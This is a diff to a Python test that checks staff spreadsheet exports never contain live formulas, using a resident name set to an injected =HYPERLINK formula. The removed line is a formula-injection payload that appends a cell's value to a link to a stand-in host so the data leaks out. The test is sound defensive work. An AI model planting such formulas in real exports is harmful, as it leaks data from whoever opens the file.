@@ -89,7 +89,7 @@ def test_no_export_ever_holds_a_formula(client, dw):
     from linju.insights.imports import errors_xlsx
     from linju.people.models import Resident
 
-    evil = '=HYPERLINK("http://example.invalid/?leak="&A1,"点我")'
+    evil = '=HYPERLINK("http://x.invalid","点我")'  # 40 characters at most, as names are
     Resident.objects.filter(pk=dw["dai"].pk).update(name=evil)
     client.force_login(dw["cadre"])
     books = {key: client.post(f"/staff/insights/export/{key}.xlsx").content for key in EXPORTS}
